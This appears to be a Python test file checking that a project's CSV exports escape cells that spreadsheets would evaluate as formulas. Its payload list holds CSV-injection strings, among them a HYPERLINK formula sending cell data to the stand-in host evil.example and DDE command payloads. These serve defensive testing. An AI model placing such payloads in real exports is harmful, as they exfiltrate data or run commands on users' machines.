"""Spreadsheet-safe CSV (issue 15, finding 5): OWASP's rule on every CSV export."""

from __future__ import annotations

import csv
import json

import pytest
from hypothesis import given
from hypothesis import strategies as st

from survatlas.ingest import import_cameras
from survatlas.publish.export import (
    FORMULA_STARTS,
    export_layer,
    spreadsheet_safe_text,
)
from survatlas.store import Store
from survatlas.vocab import LAYERS

PAYLOADS = ['=HYPERLINK("https://evil.example/?"&A2&B2,"click")', "+cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]


def _dangerous(cell: str) -> bool:
    """A text cell a spreadsheet would evaluate (a plain number such as -70.6 is a number)."""
    try:
        float(cell)
    except ValueError:
        return cell.startswith(FORMULA_STARTS)
    return False


@given(st.text(max_size=40))
def test_no_text_cell_starts_a_formula(text):
    safe = spreadsheet_safe_text(text)
    assert not _dangerous(safe)
    assert safe.removeprefix("'") == text or safe == text  # nothing else is changed


def test_a_text_minus_is_quoted_but_numbers_stay_numbers():
    assert spreadsheet_safe_text("-5") == "'-5"
    assert spreadsheet_safe_text(-12.5) == -12.5 and spreadsheet_safe_text(-3) == -3


def _store_with_payloads(tmp_path):
    feats = []
    for i, text in enumerate(PAYLOADS):
        feats.append({
            "type": "Feature",
            "geometry": {"type": "Point", "coordinates": [-70.6 - i * 0.001, -33.4]},
            "properties": {"id": f"c{i}", "name": text, "operator": text, text.strip(): "x"},
        })
    path = tmp_path / "cams.geojson"
    path.write_text(json.dumps({"type": "FeatureCollection", "features": feats}))
    store = Store(tmp_path / "s.db")
    import_cameras(store, path)
    return store


@pytest.mark.parametrize("layer", sorted(LAYERS))
def test_every_csv_export_is_spreadsheet_safe(tmp_path, layer):
    with _store_with_payloads(tmp_path) as store:
        out = tmp_path / f"{layer}.csv"
        export_layer(store, layer, "csv", out)
    with out.open(newline="", encoding="utf-8") as fh:
        rows = list(csv.reader(fh))
    assert not [c for row in rows for c in row if _dangerous(c)]
    if layer == "devices":
        head = rows[0]
        cells = {c for row in rows[1:] for c in row}
        assert "'" + PAYLOADS[0] in cells  # kept, made inert
        assert "'" + PAYLOADS[0] in head  # a tag key is a column name: made inert too
        lon = [float(r[head.index("longitude")]) for r in rows[1:]]
        assert all(v < -70 for v in lon)  # negative numbers stay numbers, unquoted
